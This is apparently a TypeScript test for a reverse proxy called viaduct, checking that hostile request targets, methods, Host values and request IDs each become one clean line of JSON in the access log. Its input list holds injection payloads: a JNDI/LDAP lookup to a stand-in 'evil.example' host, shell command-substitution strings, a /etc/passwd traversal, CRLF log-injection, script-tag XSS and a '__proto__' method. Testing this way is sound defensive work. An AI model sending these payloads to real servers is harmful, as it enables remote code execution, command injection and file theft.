/** What clients choose cannot make up a line of the access log, or an end of one. */
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { test } from 'node:test'
import type { AppName } from '../../packages/viaduct/src/model/ids.ts'
import { startProxyProcess } from '../../packages/viaduct/src/proxy/fixtures/proxy-process.ts'
import { routeTable } from '../../packages/viaduct/src/proxy/fixtures/route-table.ts'
import { Recorder } from './recorder.ts'
import { RawClient } from './run-case.ts'

const answerTimeoutMs = 5_000
const targets = [
  '/"},{"status":500,"x":"',
  '/\\',
  '/\\"',
  '/\\u000a{"at":1}',
  '/%0d%0a{"at":1,"id":"evil"}',
  '/%00%1b[31m',
  '/<script>alert(1)</script>',
  '/${jndi:ldap://evil.example/a}',
  '/`id`;$(id)|id&&id',
  "/'--",
  `/${'a'.repeat(20_000)}`,
  `/${'"'.repeat(15_000)}`,
  '/?a=1&b="2"',
  '/../../etc/passwd',
]
const methods = ['GET', 'POST', '__proto__', "!#$%&'*+-.^_`|~"]
const ids = ['ok-1', '"evil"', 'a\\', '{', 'i'.repeat(500), '\xe9']
/** All that may be in a line: whatever shows it, a terminal too, shows what is there. */
const plain = /^[\x20-\x7e]*$/

test('hostile targets, methods, hosts and ids are one line of JSON each, and nothing else', async () => {
  await using recorder = await new Recorder().start()
  const table = routeTable(1, [{ hosts: ['a', "a'b"], ports: [recorder.port] }])
  await using proxy = await startProxyProcess(table)
  const wanted: { method: string; host: string; path: string }[] = []
  for (const [i, path] of targets.entries()) {
    const method = methods[i % methods.length] ?? ''
    const host = i % 2 === 0 ? "a'b" : 'a'
    const id = ids[i % ids.length] ?? ''
    wanted.push({ method, host, path })
    const client = new RawClient(proxy.port)
    const fields = `Host: ${host}\r\nX-Request-Id: ${id}\r\nUser-Agent: "\t\\`
    client.send(`${method} ${path} HTTP/1.1\r\n${fields}\r\nConnection: close\r\n\r\n`)
    await client.until(() => false, answerTimeoutMs)
    assert.match(client.text, /^HTTP\/1\.1 200 OK\r\n/, `${method} ${path.slice(0, 80)}`)
  }
  proxy.child.kill('SIGTERM')
  assert.equal(await proxy.exited, 0)
  const text = await readFile(proxy.layout.app('app' as AppName).accessLog(0), 'latin1')
  const lines = text.split('\n').slice(0, -1)
  assert.equal(lines.length, targets.length)
  for (const line of lines) assert.match(line, plain)
  const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>)
  assert.deepEqual(
    entries.map(({ method, host, path }) => ({ method, host, path })),
    wanted,
  )
  for (const { id, status, client } of entries) {
    assert.match(String(id), /^(?:ok-1|[0-9a-f]{32})$/)
    assert.deepEqual([status, client], [200, '127.0.0.1'])
  }
})
